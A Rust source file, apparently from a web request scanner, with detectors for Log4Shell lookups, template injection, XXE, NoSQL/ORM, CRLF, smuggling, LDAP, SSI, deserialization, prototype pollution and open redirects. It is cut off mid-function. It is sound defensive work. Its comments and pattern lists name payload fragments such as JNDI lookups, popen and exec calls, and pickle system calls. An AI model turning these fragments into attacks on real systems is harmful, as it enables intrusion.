pub fn log4shell(s: &str) -> Option<ClassFound> {
    if !gate::has(s, "${") {
        // `$&lbracejndi:`, `&#x24;&#000123;jndi:`: entities a lenient
        // decoder resolves (no `;`, any number of leading zeros).
        if s.len() <= 4096
            && s.contains('&')
            && memchr::memmem::find(s.as_bytes(), b"jndi").is_some()
        {
            let d = loose_entities(s);
            if d.contains("${") {
                return log4shell(&d);
            }
        }
        return None;
    }
    let mut cur = s.get(..4096.min(s.len())).unwrap_or(s).to_string();
    for _ in 0..64 {
        let lower = cur.to_ascii_lowercase();
        if lower.contains("${jndi:") {
            return Some(("log4shell", "log4shell.jndi", 0.98));
        }
        // Innermost lookup: the last `${` before the first `}` after it.
        let Some(close) = lower.find('}') else { break };
        let Some(open) = lower.get(..close).and_then(|h| h.rfind("${")) else {
            // A `}` with no lookup before it: drop it and go on.
            cur.replace_range(close..close + 1, "");
            continue;
        };
        let inner = cur.get(open + 2..close).unwrap_or("").to_string();
        let li = inner.to_ascii_lowercase();
        let value = if li.starts_with("jndi:") {
            return Some(("log4shell", "log4shell.jndi", 0.98));
        } else if let Some(d) = inner.rfind(":-") {
            inner.get(d + 2..).unwrap_or("").to_string()
        } else if let Some(v) = li.strip_prefix("lower:").or(li.strip_prefix("upper:")) {
            v.to_string()
        } else if let Some(v) = li.strip_prefix("date:") {
            v.trim_matches('\'').to_string()
        } else {
            String::new()
        };
        cur.replace_range(open..close + 1, &value);
    }
    None
}

/// Server-side template injection.
pub fn ssti(s: &str) -> Option<ClassFound> {
    if !s.contains(['{', '<', '#', '$', '*', '@']) {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    let dunder = [
        "__class__",
        "__globals__",
        "__builtins__",
        "__subclasses__",
        "__mro__",
        "__init__",
        "__import__",
    ];
    let objects = [
        "config",
        "self",
        "request",
        "lipsum",
        "cycler",
        "joiner",
        "namespace",
        "url_for",
        "get_flashed_messages",
        "_self",
        "app",
        "range",
        "dump",
        "constructor",
    ];
    for (open, close, engine) in [
        ("{{", "}}", "jinja"),
        ("{%", "%}", "jinja"),
        ("${", "}", "el"),
        ("#{", "}", "el"),
        ("<%=", "%>", "erb"),
        ("<%", "%>", "erb"),
        ("*{", "}", "thymeleaf"),
        ("@(", ")", "razor"),
    ] {
        for (at, _) in lower.match_indices(open).take(8) {
            let rest = lower.get(at + open.len()..).unwrap_or("");
            let inner = rest
                .find(close)
                .map_or(rest, |e| rest.get(..e).unwrap_or(""));
            let inner = inner.trim();
            if inner.is_empty() || inner.len() > 512 {
                continue;
            }
            // Arithmetic proof: `{{7*7}}`, `${7*'7'}`.
            let arith = inner.len() <= 16
                && inner.bytes().any(|c| c.is_ascii_digit())
                && inner.contains(['*', '+', '-', '/'])
                && inner.bytes().all(|c| {
                    c.is_ascii_digit()
                        || matches!(
                            c,
                            b'*' | b'+' | b'-' | b'/' | b' ' | b'\'' | b'"' | b'(' | b')'
                        )
                });
            let object = objects.iter().any(|o| {
                inner.starts_with(o)
                    && inner.get(o.len()..).is_some_and(|r| {
                        r.starts_with(['.', '[', '(', '|']) || (r.is_empty() && *o == "config")
                    })
            });
            let dangerous = dunder.iter().any(|d| inner.contains(d))
                || inner.contains("getclass(")
                || inner.contains("forname(")
                || inner.contains("getruntime")
                || inner.contains(".exec(")
                || inner.contains("popen(")
                || inner.contains("system(")
                || inner.contains("t(java.")
                || inner.contains("import ")
                || inner.contains("freemarker.template")
                || inner.contains("constructor.constructor");
            if engine == "el" && open == "${" && inner.starts_with("jndi:") {
                continue;
            }
            if dangerous {
                return Some(("ssti", "ssti.dangerous_expression", 0.95));
            }
            if arith && engine != "razor" {
                return Some(("ssti", "ssti.arithmetic_probe", 0.8));
            }
            if object && engine == "jinja" {
                return Some(("ssti", "ssti.template_object", 0.8));
            }
        }
    }
    // A template statement with its end tag: `{% if x %}49{% endif %}`, `<% if x %>..<% end %>`.
    for (open, close) in [("{%", "%}"), ("<%", "%>")] {
        if let Some(at) = lower.find(open) {
            let rest = lower.get(at + open.len()..).unwrap_or("");
            let kw: String = rest
                .trim_start_matches([' ', '-', '='])
                .bytes()
                .take_while(|c| c.is_ascii_alphabetic())
                .map(char::from)
                .collect();
            // A real template tests data; a probe tests a constant (`{% if True %}`).
            let cond = rest
                .trim_start_matches([' ', '-', '='])
                .get(kw.len()..)
                .unwrap_or("")
                .split(close)
                .next()
                .unwrap_or("")
                .trim();
            let constant = matches!(cond, "true" | "false" | "1" | "0" | "1==1" | "1 == 1")
                || (!cond.is_empty() && cond.bytes().all(|c| c.is_ascii_digit()));
            if kw == "if" && constant && rest.contains(&format!("{open} end")) {
                return Some(("ssti", "ssti.statement", 0.7));
            }
        }
    }
    for (needle, rule) in [
        ("<#assign", "ssti.freemarker"),
        ("freemarker.template.utility.execute", "ssti.freemarker"),
        ("#set(", "ssti.velocity"),
        ("$class.inspect", "ssti.velocity"),
        ("{{#with", "ssti.handlebars"),
        ("{% import", "ssti.jinja"),
        ("{{range.constructor", "ssti.handlebars"),
    ] {
        if lower.contains(needle) {
            return Some(("ssti", rule, 0.85));
        }
    }
    None
}

/// XML external entities.
pub fn xxe(s: &str) -> Option<ClassFound> {
    // Each needle is looked for only with a byte of it in `s` (most values
    // have no `!`, `:`, `I` or `L`): one byte search instead of a substring
    // searcher per needle.
    let b = s.as_bytes();
    let has = |c: u8| memchr::memchr(c, b).is_some();
    let schema = has(b'L') && gate::has(s, "chemaLocation");
    if !(has(b'!') && (gate::has(s, "<!") || gate::has(s, "!ENTITY")))
        && !(has(b':') && gate::has(s, "xi:include"))
        && !(has(b'I') && gate::has(s, "XInclude"))
        && !schema
    {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    // `foo!ENTITY % bar SYSTEM`: a declaration without its `<`.
    if let Some(at) = lower.find("!entity") {
        let rest = lower.get(at + 7..).unwrap_or("");
        if !lower.contains("<!entity") && (rest.contains(" system") || rest.contains(" public")) {
            return Some(("xxe", "xxe.external_entity", 0.8));
        }
    }
    if schema {
        if let Some(f) = schema_probe(&lower) {
            return Some(f);
        }
    }
    if lower.contains("<!entity") {
        if lower.contains(" system") || lower.contains(" public") || lower.contains("%") {
            return Some(("xxe", "xxe.external_entity", 0.95));
        }
        return Some(("xxe", "xxe.entity", 0.7));
    }
    if lower.contains("<!doctype") && (lower.contains(" system \"") || lower.contains(" system '"))
    {
        return Some(("xxe", "xxe.external_dtd", 0.8));
    }
    if lower.contains("xi:include") || lower.contains("xinclude") {
        return Some(("xxe", "xxe.xinclude", 0.8));
    }
    None
}

/// `xsi:schemaLocation` (or `noNamespaceSchemaLocation`) naming a URL on an
/// out-of-band probe host (a long random label, as Burp Collaborator and
/// interactsh hand out): a parser that fetches schemas calls it back.
fn schema_probe(lower: &str) -> Option<ClassFound> {
    for (at, _) in lower.match_indices("schemalocation").take(4) {
        let rest = lower.get(at..).unwrap_or("");
        let end = rest.find(['>']).unwrap_or(rest.len());
        let attr = rest.get(..end).unwrap_or("");
        for (u, _) in attr.match_indices("://").take(8) {
            let host = url_host(attr.get(u + 3..).unwrap_or(""));
            if host.split('.').any(random_label) {
                return Some(("xxe", "xxe.schema_probe", 0.75));
            }
        }
    }
    None
}

/// A DNS label that looks machine-made for a callback: 20+ letters and
/// digits with at least 4 of each.
fn random_label(l: &str) -> bool {
    let digits = l.bytes().filter(u8::is_ascii_digit).count();
    let letters = l.bytes().filter(u8::is_ascii_alphabetic).count();
    l.len() >= 20 && digits >= 4 && letters >= 4 && digits + letters == l.len()
}

const MONGO_OPS: &[&str] = &[
    "$ne",
    "$eq",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$nin",
    "$in",
    "$regex",
    "$where",
    "$exists",
    "$expr",
    "$or",
    "$and",
    "$not",
    "$nor",
    "$elemmatch",
    "$function",
    "$accumulator",
    "$size",
    "$type",
    "$mod",
    "$all",
    "$text",
    "$lookup",
];

/// NoSQL operator injection: `$ne`-style operators in keys (`user[$ne]=`,
/// `{"user":{"$ne":1}}`) and server-side JavaScript.
/// Django/ORM field lookups (`field__startswith`, `__isnull`, `__has_key`).
const ORM_LOOKUPS: &[&str] = &[
    "exact",
    "iexact",
    "contains",
    "icontains",
    "in",
    "gt",
    "gte",
    "lt",
    "lte",
    "startswith",
    "istartswith",
    "endswith",
    "iendswith",
    "range",
    "isnull",
    "regex",
    "iregex",
    "has_key",
    "has_keys",
    "has_any_keys",
    "contained_by",
    "contains_by",
    "overlap",
    "search",
];
/// Fields an ORM leak walks to: secrets, or the flags that make an admin.
const ORM_SECRETS: &[&str] = &[
    "password",
    "passwd",
    "pwd",
    "secret",
    "token",
    "api_key",
    "apikey",
    "hash",
    "salt",
    "otp",
    "totp_secret",
    "reset_token",
    "is_staff",
    "is_superuser",
    "is_admin",
    "private_key",
];

/// A key that filters through an ORM lookup (`a__b__startswith`) as an
/// oracle on data the client should not see: a lookup on a secret field
/// (`password__isnull`, `user__password__startswith`) or across two
/// relations or more (`created_by__user__username__startswith`). One field
/// and a lookup (`name__icontains`) is what filter APIs take by design.
fn orm_lookup(lower: &str) -> Option<ClassFound> {
    let key = lower
        .rsplit(['.', '['])
        .next()
        .unwrap_or(lower)
        .trim_end_matches([']', '"']);
    let (fields, lookup) = key.rsplit_once("__")?;
    if !ORM_LOOKUPS.contains(&lookup) || fields.is_empty() {
        return None;
    }
    let mut n = 0;
    let mut secret = false;
    for f in fields.split("__") {
        if f.is_empty() || !f.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_') {
            return None;
        }
        n += 1;
        secret |= ORM_SECRETS.contains(&f);
    }
    if secret {
        Some(("nosql", "nosql.orm_secret_lookup", 0.75))
    } else if n >= 3 {
        Some(("nosql", "nosql.orm_traversal", 0.6))
    } else {
        None
    }
}

pub fn nosql(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    if !s.contains('$') && !gate::has(s, "this.") && !gate::has(s, "__") {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    if cx.kind == Kind::Key {
        for op in MONGO_OPS {
            if let Some(at) = lower.find(op) {
                let end = at + op.len();
                let before_ok =
                    at == 0 || matches!(lower.as_bytes()[at - 1], b'[' | b'.' | b'{' | b'"');
                let after_ok = lower
                    .as_bytes()
                    .get(end)
                    .is_none_or(|c| !c.is_ascii_alphanumeric());
                if before_ok && after_ok {
                    let conf = if matches!(*op, "$where" | "$function" | "$accumulator" | "$expr") {
                        0.95
                    } else {
                        0.85
                    };
                    return Some(("nosql", "nosql.operator", conf));
                }
            }
        }
        if lower.contains("__") {
            if let Some(f) = orm_lookup(&lower) {
                return Some(f);
            }
        }
    }
    if lower.contains("$where") || (lower.contains("this.") && lower.contains("sleep(")) {
        return Some(("nosql", "nosql.server_js", 0.8));
    }
    if lower.starts_with("{\"$")
        || lower.starts_with("{'$")
        || lower.match_indices("[$").take(8).any(|(at, _)| {
            let op = lower.get(at + 1..).unwrap_or("");
            let n = 1 + op
                .bytes()
                .skip(1)
                .take_while(u8::is_ascii_alphabetic)
                .count();
            op.as_bytes().get(n) == Some(&b']') && MONGO_OPS.contains(&op.get(..n).unwrap_or(""))
        })
    {
        return Some(("nosql", "nosql.operator", 0.8));
    }
    None
}

const INJECTED_HEADERS: &[&str] = &[
    "set-cookie",
    "location",
    "content-type",
    "content-length",
    "refresh",
    "x-",
    "access-control-",
    "transfer-encoding",
    "host",
    "cookie",
];

const MAIL_HEADERS: &[&str] = &[
    "bcc:",
    "cc:",
    "to:",
    "from:",
    "subject:",
    "reply-to:",
    "content-type:",
];

/// IMAP commands (after a tag: `a001 SELECT INBOX`).
const IMAP_VERBS: &[&str] = &[
    "login",
    "select",
    "examine",
    "fetch",
    "store",
    "uid",
    "search",
    "copy",
    "move",
    "list",
    "lsub",
    "append",
    "authenticate",
    "status",
    "logout",
    "create",
    "delete",
    "rename",
    "subscribe",
    "unsubscribe",
    "capability",
    "expunge",
    "close",
    "check",
    "idle",
    "starttls",
];

/// One line of a mail protocol (SMTP, IMAP, POP3) command, lower case;
/// `strict` lines also count when bare verbs (`DATA`, `QUIT`, `RETR 1`).
fn mail_command(l: &str, original: &str, loose: bool) -> bool {
    let l = l.trim_end();
    if l.starts_with("mail from:") || l.starts_with("rcpt to:") {
        return true;
    }
    if !loose || l.len() > 120 {
        return false;
    }
    let mut words = l.split(' ').filter(|w| !w.is_empty());
    let (Some(verb), args) = (words.next(), words.collect::<Vec<_>>()) else {
        return false;
    };
    let num = |i: usize| {
        args.get(i)
            .is_some_and(|a| !a.is_empty() && a.bytes().all(|c| c.is_ascii_digit()))
    };
    let smtp_pop = match verb {
        "data" | "quit" | "rset" | "noop" | "stat" | "uidl" | "capa" | "starttls" => {
            args.is_empty()
        }
        "ehlo" | "helo" | "vrfy" | "expn" | "help" | "auth" | "user" | "pass" => args.len() == 1,
        "retr" | "dele" | "list" => args.len() == 1 && num(0),
        "top" => args.len() == 2 && num(0) && num(1),
        "apop" => args.len() == 2 && args[1].len() == 32,
        _ => false,
    };
    if smtp_pop {
        return true;
    }
    // IMAP: a tag, then a command.
    let tag_ok = verb.len() <= 8
        && verb.bytes().all(|c| c.is_ascii_alphanumeric())
        && (verb.bytes().any(|c| c.is_ascii_digit())
            || original
                .split(' ')
                .nth(1)
                .is_some_and(|v| v.bytes().all(|c| c.is_ascii_uppercase())));
    tag_ok && args.first().is_some_and(|v| IMAP_VERBS.contains(v))
}

/// CRLF / response splitting (in URLs and headers), mail header injection
/// and mail protocol command injection (anywhere but a raw body).
pub fn crlf(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    if !s.contains(['\r', '\n']) {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    // Bare protocol verbs count when the line break is all that came before
    // them, or follows one token (`a@b.c\r\nRCPT TO:<x>`), not in prose.
    let head = lower.split(['\r', '\n']).next().unwrap_or("");
    let loose = !head.trim().contains(' ') && head.len() < 128;
    if !matches!(cx.kind, Kind::Body) {
        for (line, orig) in lower
            .split(['\r', '\n'])
            .zip(s.split(['\r', '\n']))
            .skip(1)
            .take(32)
        {
            let (l, o) = (line.trim_start(), orig.trim_start());
            if !l.is_empty() && mail_command(l, o, loose) {
                return Some(("mail", "mail.protocol_injection", 0.8));
            }
        }
    }
    // A mail header line counts beside an address line (`Bcc: x@y.z`): a
    // textarea's `Subject: lunch` or `Content-Type: notes` alone is prose.
    let mail = !matches!(cx.kind, Kind::Body)
        && lower
            .split(['\r', '\n'])
            .take(33)
            .map(str::trim_start)
            .any(mail_address_line);
    for line in lower.split(['\r', '\n']).skip(1).take(32) {
        let l = line.trim_start();
        if l.is_empty() {
            continue;
        }
        if mail && MAIL_HEADERS.iter().any(|h| l.starts_with(h)) {
            return Some(("mail", "mail.header_injection", 0.8));
        }
        if (cx.in_url && injected_header(l) || cx.kind == Kind::Header)
            && INJECTED_HEADERS.iter().any(|h| l.starts_with(h))
            && l.contains(':')
        {
            return Some(("crlf", "crlf.header_injection", 0.9));
        }
    }
    crlf_shapes(&lower, loose, cx)
}

/// `To:`, `Cc:`, `Bcc:`, `From:` or `Reply-To:` with an address (lower case).
fn mail_address_line(l: &str) -> bool {
    ["bcc:", "cc:", "to:", "from:", "reply-to:"]
        .iter()
        .any(|h| l.starts_with(h))
        && l.contains('@')
}

/// An injected header line in a URL or form value has the value the header
/// takes (lower case line): a cookie `a=1; path=/`, a URL or host for
/// `Location`/`Host`, a media type, digits for `Content-Length`, one token
/// for the rest. A textarea's `Location: Room 4`, `Host: Anna` or
/// `Content-Type: notes` after a line break is not one.
fn injected_header(l: &str) -> bool {
    let Some((name, value)) = l.split_once(':') else {
        return false;
    };
    let (name, v) = (name.trim_end(), value.trim());
    let token = !v.is_empty() && !v.contains([' ', '\t']);
    match name {
        "set-cookie" | "cookie" => v.contains('='),
        "location" | "refresh" => v.contains(['/', '=', '.']) && (token || v.contains('=')),
        "host" => token && (v.contains(['.', ':']) || v.starts_with("localhost")),
        "content-type" => v.contains('/'),
        "content-length" => v.starts_with(|c: char| c.is_ascii_digit()),
        _ => token || v.contains('='),
    }
}

/// Header names an injected line sets (besides [`INJECTED_HEADERS`]): the
/// ones a proxy or application trusts for the client's address.
const TRUSTED_HEADERS: &[&str] = &[
    "remote-addr",
    "remote-ip",
    "remote-host",
    "via",
    "forwarded",
    "originating-ip",
    "true-client-ip",
    "client-ip",
];

/// `Name: value` where Name is a header token (stray CRs and blanks may sit
/// before the colon); the lower-case name.
fn header_line(l: &str) -> Option<&str> {
    let n = l
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == b'-' || *c == b'_')
        .count();
    let name = l.get(..n).filter(|n| (1..=40).contains(&n.len()))?;
    let rest = l.get(n..)?.trim_start_matches([' ', '\t', '\r']);
    rest.starts_with(':').then_some(name)
}

/// A status line (`http/1.1 200 ok`, lower case).
fn status_line(l: &str) -> bool {
    let b = l.as_bytes();
    l.starts_with("http/")
        && b.get(5).is_some_and(u8::is_ascii_digit)
        && l.get(6..)
            .map(|r| r.trim_start_matches(|c: char| c == '.' || c.is_ascii_digit()))
            .and_then(|r| r.strip_prefix(' '))
            .is_some_and(|r| r.len() >= 3 && r.bytes().take(3).all(|c| c.is_ascii_digit()))
}

/// The splitting shapes [`crlf`] adds to the header list: a line break in a
/// parameter name (never typed into a form), in the path, a status line or
/// an empty line and markup after a one-token value (response splitting),
/// any header line in a header or cookie, and the client-address headers.
fn crlf_shapes(lower: &str, loose: bool, cx: &Ctx<'_>) -> Option<ClassFound> {
    // In a query parameter's name (in a form body's, a break may be the
    // posted file's last line or a multipart body sent as a form).
    if cx.kind == Kind::Key && cx.name.starts_with("query_key.") {
        return Some(("crlf", "crlf.name", 0.85));
    }
    if cx.kind == Kind::Path {
        return Some(("crlf", "crlf.path", 0.8));
    }
    if cx.kind == Kind::Body {
        return None;
    }
    let wire = matches!(cx.kind, Kind::Header | Kind::Cookie);
    // One piece per line (`\r\n` is one break): an empty piece is a blank line.
    let norm = lower.replace("\r\n", "\n");
    let mut blank = false;
    for l in norm.split(['\r', '\n']).skip(1).take(32) {
        if l.trim().is_empty() {
            blank = true;
            continue;
        }
        let l = l.trim_start();
        // A status line after a one-token value (not pasted into a report).
        if (loose || wire) && status_line(l) {
            return Some(("crlf", "crlf.response_splitting", 0.9));
        }
        if blank && (wire && l.starts_with('<') || loose && cx.in_url && l.starts_with("<html")) {
            return Some(("crlf", "crlf.response_splitting", 0.85));
        }
        if let Some(name) = header_line(l) {
            // An address or host name, one token (`Via: the side door` is prose).
            let one_value = l
                .split_once(':')
                .is_some_and(|(_, v)| !v.trim().is_empty() && !v.trim().contains(' '));
            if wire || loose && cx.in_url && one_value && TRUSTED_HEADERS.contains(&name) {
                return Some(("crlf", "crlf.header_injection", 0.85));
            }
        }
        blank = false;
    }
    None
}

/// HTTP request splitting and smuggling: a whole request line
/// (`GET /x HTTP/1.1`) inside a value, after a line break, opening the
/// value, or followed by a header line. Prose that names a verb and a
/// version (`GET the file over HTTP/1.1`) is not one: the target is one
/// token and the version follows it directly.
pub fn splitting(s: &str) -> Option<ClassFound> {
    const VERBS: &[&str] = &[
        "GET",
        "POST",
        "HEAD",
        "PUT",
        "DELETE",
        "OPTIONS",
        "PATCH",
        "TRACE",
        "CONNECT",
        "TRACK",
        "PROPFIND",
        "PROPPATCH",
        "MKCOL",
        "COPY",
        "MOVE",
        "LOCK",
        "UNLOCK",
    ];
    if !gate::has(s, " HTTP/") {
        return None;
    }
    for (at, _) in s.match_indices(" HTTP/").take(16) {
        // Back to the verb: `<verb> <target> HTTP/`.
        let before = s.get(..at).unwrap_or("");
        let Some(sp) = before.rfind([' ', '\t']) else {
            continue;
        };
        let target = before.get(sp + 1..).unwrap_or("");
        let ok_target = target.starts_with('/')
            || target.starts_with('*')
            || target.starts_with("http://")
            || target.starts_with("https://");
        if !ok_target {
            continue;
        }
        let head = before.get(..sp).unwrap_or("");
        let Some(verb) = VERBS.iter().find(|v| head.ends_with(*v)) else {
            continue;
        };
        let verb_at = head.len() - verb.len();
        let lead = head.get(..verb_at).unwrap_or("");
        let version = s.get(at + 6..).unwrap_or("");
        if !version.as_bytes().first().is_some_and(u8::is_ascii_digit) {
            continue;
        }
        let tail = version.trim_start_matches(|c: char| c == '.' || c.is_ascii_digit());
        // What comes before the verb is one token at most (`aaa\n`,
        // `bar`): a request pasted into prose is not smuggled.
        let one_token = lead.len() <= 128 && !lead.trim().contains(char::is_whitespace);
        let line_ends = tail.is_empty() || tail.starts_with(['\r', '\n', ' ']);
        if one_token && line_ends {
            return Some(("smuggling", "smuggling.request_line", 0.85));
        }
    }
    None
}

/// mod_proxy's `unix:` socket path followed by `|` and the URL to fetch
/// (CVE-2021-40438: a long socket name makes Apache proxy to the URL).
pub fn mod_proxy_unix(s: &str) -> Option<ClassFound> {
    if !s.contains('|') {
        return None;
    }
    let at = super::gate::find_ignore_case(s.as_bytes(), b"unix:")?;
    let rest = s.get(at + 5..).unwrap_or("");
    let (socket, url) = rest.split_once('|')?;
    let scheme = url
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == b'+')
        .count();
    (!socket.contains(char::is_whitespace)
        && (2..=12).contains(&scheme)
        && url.get(scheme..).is_some_and(|r| r.starts_with("://")))
    .then_some(("ssrf", "ssrf.mod_proxy_unix", 0.9))
}

/// LDAP filter injection: a value that closes a filter and opens another.
pub fn ldap(s: &str) -> Option<ClassFound> {
    // Both needles hold a `)`: without one, only the break is left to judge.
    if memchr::memchr(b')', s.as_bytes()).is_none() || !gate::has(s, ")(") && !gate::has(s, "*)") {
        return ldap_break(s);
    }
    let b = s.as_bytes();
    for (at, _) in s.match_indices(")(").take(16) {
        if notation_group(s.get(..at).unwrap_or("")) {
            continue;
        }
        let after = b.get(at + 2..).unwrap_or(&[]);
        let after = match after.first() {
            Some(b'|' | b'&' | b'!') => after.get(1..).unwrap_or(&[]),
            _ => after,
        };
        let after = if after.first() == Some(&b'(') {
            after.get(1..).unwrap_or(&[])
        } else {
            after
        };
        let name = after
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'-')
            .count();
        if name > 0 && matches!(after.get(name), Some(b'=' | b'~' | b'>' | b'<')) {
            return Some(("ldap", "ldap.filter_injection", 0.85));
        }
    }
    if (s.starts_with("*)(") || s.contains("*)(|") || s.contains("*)(&")) && s.contains('=') {
        return Some(("ldap", "ldap.filter_injection", 0.85));
    }
    ldap_break(s)
}

/// The group a `)` closes is math or function notation, not a filter:
/// `head` ends inside a `(` opened in the value (`f(x`, `(f`) whose content
/// holds no assertion (`=`) or wildcard (`*`), as an LDAP filter's group does.
fn notation_group(head: &str) -> bool {
    head.rfind('(')
        .and_then(|open| head.get(open + 1..))
        .is_some_and(|group| !group.contains([')', '=', '*']))
}

/// A value that closes the application's filter at its first `)` and goes
/// on in filter syntax: `bar)(&)`, `admin)(|`, `x)!(sn=*`, `val)&(cn=admin`,
/// `test) ( & `. What comes before that `)` holds no filter syntax (as in
/// the CRS rule), so prose and math that open a parenthesis first
/// (`(see above)(and below)`, `(a|b)`) or an emoticon (`:)(`) are not read.
fn ldap_break(s: &str) -> Option<ClassFound> {
    let close = s.find(')')?;
    let head = s.get(..close).unwrap_or("");
    if head.contains([':', '(', ')', '&', '|', '!', '<', '>', '~']) {
        return None;
    }
    fn blank(r: &str) -> &str {
        r.trim_start_matches([' ', '\t'])
    }
    let after = blank(s.get(close + 1..).unwrap_or(""));
    // `attr=`, `attr>=`, `attr~=`: an LDAP attribute description.
    let assertion = |r: &str| {
        let n = r
            .bytes()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.' | b';'))
            .count();
        let op = r.get(n..).unwrap_or("");
        n > 0
            && (op.starts_with('=')
                || op.starts_with(">=")
                || op.starts_with("<=")
                || op.starts_with("~="))
    };
    if let Some(r) = after.strip_prefix('(') {
        let r = blank(r);
        if r.starts_with(['&', '|', '!']) || assertion(r) {
            return Some(("ldap", "ldap.filter_break", 0.8));
        }
    } else if let Some(r) = after.strip_prefix(['&', '|', '!']) {
        if let Some(r) = blank(r).strip_prefix('(') {
            if assertion(blank(r)) {
                return Some(("ldap", "ldap.filter_break", 0.8));
            }
        }
    }
    None
}

/// Server-side includes.
pub fn ssi(s: &str) -> Option<ClassFound> {
    memchr::memchr(b'<', s.as_bytes())?;
    let at = s.find("<!--#")?;
    let d = s.get(at + 5..).unwrap_or("").to_ascii_lowercase();
    [
        "exec", "include", "echo", "config", "printenv", "fsize", "flastmod", "set", "if",
    ]
    .iter()
    .any(|k| d.starts_with(k))
    .then_some(("ssi", "ssi.directive", 0.9))
}

/// Serialized objects: Java, PHP, .NET, Python pickle, YAML tags.
pub fn deser(s: &str) -> Option<ClassFound> {
    let t = s.trim_start();
    if t.starts_with("rO0AB") || t.starts_with("H4sIAAAAAAAA") && t.len() > 40 {
        return Some(("deser", "deser.java", 0.85));
    }
    if t.len() >= 8
        && t.get(..8)
            .is_some_and(|h| h.eq_ignore_ascii_case("aced0005"))
    {
        return Some(("deser", "deser.java", 0.85));
    }
    if t.as_bytes().starts_with(&[0xac, 0xed, 0x00, 0x05]) {
        return Some(("deser", "deser.java", 0.9));
    }
    if t.starts_with("AAEAAAD/////")
        || gate::has(t, "\"$type\":\"System.")
        || gate::has(t, "\"$type\": \"System.")
        || gate::has(t, "ObjectDataProvider")
    {
        return Some(("deser", "deser.dotnet", 0.85));
    }
    // PHP: O:8:"stdClass":1:{...}, a:2:{...}, C:.. custom.
    let b = t.as_bytes();
    let mut i = 0;
    while let Some(p) = b.get(i..).and_then(|r| {
        r.windows(2)
            .position(|w| (w[0] == b'O' || w[0] == b'C') && w[1] == b':')
    }) {
        let at = i + p;
        i = at + 2;
        let rest = t.get(at + 2..).unwrap_or("");
        let digits = rest.bytes().take_while(|c| c.is_ascii_digit()).count();
        if digits > 0 && rest.get(digits..).is_some_and(|r| r.starts_with(":\"")) {
            let after = rest.get(digits + 2..).unwrap_or("");
            if let Some(q) = after.find('"') {
                if after.get(q + 1..).is_some_and(|r| r.starts_with(':')) {
                    return Some(("deser", "deser.php", 0.9));
                }
            }
        }
        if i > 4096 {
            break;
        }
    }
    if (t.starts_with("a:")
        && t.contains(":{")
        && (t.contains("s:") || t.contains("i:"))
        && t.ends_with('}'))
        && t.len() > 8
    {
        return Some(("deser", "deser.php", 0.7));
    }
    // Every YAML tag below starts with `!`: no lower-cased copy without one.
    if memchr::memchr(b'!', b).is_some() {
        let lower = t.to_ascii_lowercase();
        if lower.contains("!!python/object")
            || lower.contains("!!javax.")
            || lower.contains("!!java.")
            || lower.contains("!ruby/object")
        {
            return Some(("deser", "deser.yaml", 0.9));
        }
    }
    if t.starts_with("cos\nsystem")
        || t.starts_with("cposix\nsystem")
        || t.contains("c__builtin__\n")
        || t.starts_with("\u{80}\u{4}")
    {
        return Some(("deser", "deser.pickle", 0.9));
    }
    None
}

/// Prototype pollution in keys or values.
pub fn proto(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    // Both needles hold `proto`: one byte search for it first (most
    // values and names have no `p` followed by `roto`).
    if !has_proto(s.as_bytes()) || !s.contains("__proto__") && !s.contains("prototype") {
        return None;
    }
    let lower = s.to_ascii_lowercase();
    let key_like = matches!(cx.kind, Kind::Key)
        || cx.name.contains("__proto__")
        || cx.name.contains("prototype");
    if lower.contains("__proto__")
        && (key_like
            || lower.contains("__proto__[")
            || lower.contains("__proto__.")
            || lower.contains("\"__proto__\""))
    {
        return Some(("proto", "proto.pollution", 0.9));
    }
    if lower.contains("constructor[prototype]")
        || lower.contains("constructor.prototype")
        || (key_like && lower.contains("constructor") && lower.contains("prototype"))
    {
        return Some(("proto", "proto.pollution", 0.85));
    }
    None
}

/// Whether `b` contains `proto` (case-sensitive): what both of
/// [`proto`]'s needles, `__proto__` and `prototype`, contain.
fn has_proto(b: &[u8]) -> bool {
    memchr::memchr_iter(b'p', b).any(|at| b.get(at + 1..at + 5) == Some(b"roto"))
}

const REDIRECT_PARAMS: &[&str] = &[
    // Not OAuth's `redirect_uri`: it names the client's site, off-site by design.
    "redirect",
    "redirect_url",
    "redirecturl",
    "next",
    "return",
    "returnurl",
    "return_url",
    "return_to",
    "returnto",
    "goto",
    "dest",
    "destination",
    "continue",
    "redir",
    "forward",
];

/// Open redirect: a redirect-named parameter whose value leaves the site.
pub fn redirect(s: &str, cx: &Ctx<'_>, host: &str) -> Option<ClassFound> {
    if cx.kind != Kind::Value
        || !gate::has(s, "//") && !gate::has(s, "/\\") && !gate::has(s, "\\\\")
    {
        return None;
    }
    let param = cx
        .name
        .rsplit('.')
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    if !REDIRECT_PARAMS.contains(&param.as_str()) {
        return None;
    }
    let v = s.trim();
    let target = if let Some(r) = v
        .strip_prefix("//")
        .or(v.strip_prefix("/\\"))
        .or(v.strip_prefix("\\\\"))
    {
        r
    } else if let Some((scheme, r)) = v.split_once("://") {
        if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https") {
            return None;
        }
        r
    } else {
        return None;
    };
    let h = url_host(target).to_ascii_lowercase();
    let own = host.split(':').next().unwrap_or("").to_ascii_lowercase();
    if h.is_empty() || h == own || (!own.is_empty() && same_site(&h, &own)) {
        return None;
    }
    Some(("redirect", "redirect.offsite", 0.6))
}

/// Whether two host names share a registrable domain (`shop.example.com`
/// and `api.example.com`): the last two labels, three under a two-letter
/// country code with a short second level (`example.co.uk`).
fn same_site(a: &str, b: &str) -> bool {
    fn site(h: &str) -> &str {
        let h = h.trim_end_matches('.');
        let mut dots = h.rmatch_indices('.').map(|(i, _)| i);
        let (Some(last), second) = (dots.next(), dots.next()) else {
            return h;
        };
        let tld = h.get(last + 1..).unwrap_or("");
